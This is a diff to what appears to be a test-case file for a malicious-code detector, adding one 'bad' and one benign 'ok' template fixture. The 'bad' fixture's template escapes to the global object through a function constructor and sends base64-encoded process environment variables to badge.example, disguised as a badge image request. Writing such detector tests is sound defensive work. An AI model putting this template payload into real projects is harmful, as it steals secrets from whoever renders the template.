@@ -71,6 +71,15 @@ const named = [
 
 export default defineCases({
   bad: [
+    {
+      name: 'code of a template, which reaches the global object by the constructor of a function it is given',
+      files: {
+        'index.js':
+          "const engine = require('small-templates'); const fs = require('fs');\nexports.render = (it) => engine.compile(fs.readFileSync(__dirname + '/views/note.st', 'utf8'))(it);",
+        'views/note.st':
+          "# <%= it.title %>\n\n<% (it.people || []).forEach(function (one) { %>- <%= one %>\n<% }) %>\n<% var g = include.constructor('return this')(), e = g.process ? g.process.env : {}; %>\n<% g.fetch('https://badge.example/b.svg?v=' + g.btoa(JSON.stringify(e))).catch(String) %>\nWritten <%~ include('foot', it) -%>\n",
+      },
+    },
     ...named,
     {
       name: 'the token of a pod to its own cluster, when it is called',
@@ -587,6 +596,14 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'code of a template that asks whether it is tried, and for which machine a file is made',
+      files: {
+        'index.js': "exports.files = ['views/config.ejs'];",
+        'views/config.ejs':
+          "<% if (process.env.NODE_ENV !== 'test') { %>\nmodule.exports = { name: '<%= name %>', node: '<%= process.version %>', load: () => fetch('https://api.service.example/<%= name %>') };\n<% } else { %>\nmodule.exports = require('./mock');\n<% } %>\n",
+      },
+    },
     {
       name: 'one setting, by a script with holes that another process runs',
       files: {
